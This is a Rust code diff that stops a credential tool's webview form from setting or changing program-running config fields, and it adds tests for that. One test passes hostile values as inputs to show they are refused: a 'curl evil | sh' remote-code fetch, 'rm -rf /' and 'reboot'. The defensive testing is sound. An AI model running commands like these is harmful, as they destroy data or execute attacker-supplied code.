@@ -47,7 +47,15 @@ pub struct FieldSchema {
     pub required: bool,
     pub choices: Vec<String>,
     pub placeholder: String,
+    /// The field names a program Evergreen runs (or how it runs it): the
+    /// window shows it but cannot set or change it; the config file can.
+    pub runs_program: bool,
 }
+
+/// Fields that run programs. A script injected into the webview must not
+/// be able to make the engine run one, so the form never writes them: a
+/// saved credential keeps what its file says.
+const PROGRAM_FIELDS: &[&str] = &["renew_command", "reload_command", "shell"];
 
 /// A credential kind and the fields its form shows.
 #[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
@@ -552,6 +560,7 @@ pub fn kinds() -> Vec<KindSchema> {
                         required,
                         choices: choices(key),
                         placeholder: placeholder.into(),
+                        runs_program: PROGRAM_FIELDS.contains(&key),
                     })
                     .collect(),
             }
@@ -601,20 +610,26 @@ pub fn read_form(path: &Path, name: &str) -> Result<CredentialForm> {
         if key == "name" || key == "kind" {
             continue;
         }
-        let text = match item.as_value() {
-            Some(Value::String(s)) => s.value().clone(),
-            Some(Value::Boolean(b)) => b.value().to_string(),
-            Some(Value::Integer(i)) => i.value().to_string(),
-            Some(Value::Float(f)) => f.value().to_string(),
-            Some(Value::Array(a)) => a.iter().filter_map(|v| v.as_str()).collect::<Vec<_>>().join("\n"),
-            _ => continue,
-        };
-        values.insert(key.to_string(), text);
+        if let Some(text) = item_text(item) {
+            values.insert(key.to_string(), text);
+        }
     }
     Ok(CredentialForm {
         name: name.into(),
         kind,
         values,
+    })
+}
+
+/// A config value as the form shows it.
+fn item_text(item: &Item) -> Option<String> {
+    Some(match item.as_value()? {
+        Value::String(s) => s.value().clone(),
+        Value::Boolean(b) => b.value().to_string(),
+        Value::Integer(i) => i.value().to_string(),
+        Value::Float(f) => f.value().to_string(),
+        Value::Array(a) => a.iter().filter_map(|v| v.as_str()).collect::<Vec<_>>().join("\n"),
+        _ => return None,
     })
 }
 
@@ -653,6 +668,11 @@ fn to_value(field: &F, text: &str, shell: bool) -> std::result::Result<Option<Va
         }
         _ => Value::from(text),
     }))
+}
+
+/// A list field's text without the blank lines and spaces a form adds.
+fn normalized(text: &str) -> Vec<&str> {
+    text.lines().map(str::trim).filter(|l| !l.is_empty()).collect()
 }
 
 /// Validates the form against the whole config and, only if everything is
@@ -695,7 +715,32 @@ pub fn save(path: &Path, original: Option<&str>, form: &CredentialForm) -> Resul
     let mut table = Table::new();
     table.insert("name", toml_edit::value(form.name.as_str()));
     table.insert("kind", toml_edit::value(form.kind.as_str()));
+    let before = existing.and_then(|i| credentials(&doc).and_then(|a| a.get(i)));
     for f in &fields {
+        if PROGRAM_FIELDS.contains(&f.0) {
+            // Kept exactly as the file has it; a change is refused by name.
+            let old = before.and_then(|t| t.get(f.0));
+            let was = old.and_then(item_text).unwrap_or_default();
+            let asked = form.values.get(f.0).map(String::as_str).unwrap_or("");
+            let same = match f.2 {
+                FieldType::Bool => (asked.trim() == "true") == (was.trim() == "true"),
+                _ => normalized(asked) == normalized(&was),
+            };
+            if !same {
+                problems.push(FormProblem {
+                    field: Some(f.0.into()),
+                    message: format!(
+                        "{} runs a program, so the window cannot set or change it: edit `{}` in {} (Evergreen applies the file as soon as it is saved)",
+                        f.1,
+                        f.0,
+                        path.display()
+                    ),
+                });
+            } else if let Some(item) = old {
+                table.insert(f.0, item.clone());
+            }
+            continue;
+        }
         match to_value(f, form.values.get(f.0).map(String::as_str).unwrap_or(""), shell) {
             Ok(Some(v)) => {
                 table.insert(f.0, Item::Value(v));
@@ -859,25 +904,19 @@ mod tests {
             "# my credentials\n[[credential]]\n# the web server\nname = \"web\"\nkind = \"x509_file\"\npath = \"/certs/web.pem\"\n",
         )
         .unwrap();
-        let r = save(
-            &path,
-            None,
-            &form(
-                "api",
-                Kind::X509File,
-                &[
-                    ("path", "/certs/api.pem"),
-                    ("renew_command", "step\nca\nrenew\n/certs/api.pem"),
-                ],
-            ),
-        )
-        .unwrap();
+        let r = save(&path, None, &form("api", Kind::X509File, &[("path", "/certs/api.pem")])).unwrap();
         assert!(r.ok, "{r:?}");
         let text = std::fs::read_to_string(&path).unwrap();
         assert!(text.starts_with("# my credentials\n"), "{text}");
         assert!(text.contains("# the web server"), "{text}");
         let cfg = config::parse(&text, &path).unwrap();
         assert_eq!(cfg.credentials.len(), 2);
+        // The program is the file's to name; the form keeps it as it is.
+        std::fs::write(
+            &path,
+            text + "renew_command = [\"step\", \"ca\", \"renew\", \"/certs/api.pem\"]\n",
+        )
+        .unwrap();
 
         let mut f = read_form(&path, "api").unwrap();
         assert_eq!(f.values["renew_command"], "step\nca\nrenew\n/certs/api.pem");
@@ -893,6 +932,58 @@ mod tests {
             ["web"]
         );
         assert!(matches!(read_form(&path, "api"), Err(Error::UnknownCredential { .. })));
+    }
+
+    #[test]
+    fn the_form_can_neither_set_nor_change_a_field_that_runs_a_program() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("config.toml");
+        let original = "[[credential]]\nname = \"web\"\nkind = \"x509_file\"\npath = \"/certs/web.pem\"\nrenew_command = [\"step\", \"ca\", \"renew\"]\n";
+        std::fs::write(&path, original).unwrap();
+        let refused = |r: SaveResult, field: &str| {
+            assert!(!r.ok);
+            let p = r.problems.iter().find(|p| p.field.as_deref() == Some(field)).unwrap();
+            assert!(
+                p.message
+                    .contains("runs a program, so the window cannot set or change it"),
+                "{p:?}"
+            );
+            assert!(
+                p.message.contains(&format!("edit `{field}` in {}", path.display())),
+                "{p:?}"
+            );
+            assert_eq!(std::fs::read_to_string(&path).unwrap(), original);
+        };
+        let new = |values: &[(&str, &str)]| save(&path, None, &form("api", Kind::X509File, values)).unwrap();
+        refused(
+            new(&[("path", "/a.pem"), ("renew_command", "sh\n-c\ncurl evil | sh")]),
+            "renew_command",
+        );
+        refused(
+            new(&[("path", "/a.pem"), ("reload_command", "reboot")]),
+            "reload_command",
+        );
+        refused(new(&[("path", "/a.pem"), ("shell", "true")]), "shell");
+        let mut f = read_form(&path, "web").unwrap();
+        f.values.insert("renew_command".into(), "rm\n-rf\n/".into());
+        refused(save(&path, Some("web"), &f).unwrap(), "renew_command");
+        // Unchanged (even with the form's own spacing) it is kept byte for byte.
+        let mut f = read_form(&path, "web").unwrap();
+        f.values.insert("renew_command".into(), "step\n  ca \nrenew\n\n".into());
+        f.values.insert("shell".into(), "false".into());
+        f.values.insert("jitter".into(), "0.1".into());
+        assert!(save(&path, Some("web"), &f).unwrap().ok);
+        let text = std::fs::read_to_string(&path).unwrap();
+        assert!(text.contains("renew_command = [\"step\", \"ca\", \"renew\"]"), "{text}");
+        assert!(!text.contains("shell"), "{text}");
+        let schema = kinds().into_iter().find(|k| k.kind == Kind::X509File).unwrap();
+        let flagged: Vec<_> = schema
+            .fields
+            .iter()
+            .filter(|f| f.runs_program)
+            .map(|f| f.key.as_str())
+            .collect();
+        assert_eq!(flagged, ["renew_command", "reload_command", "shell"]);
     }
 
     #[test]
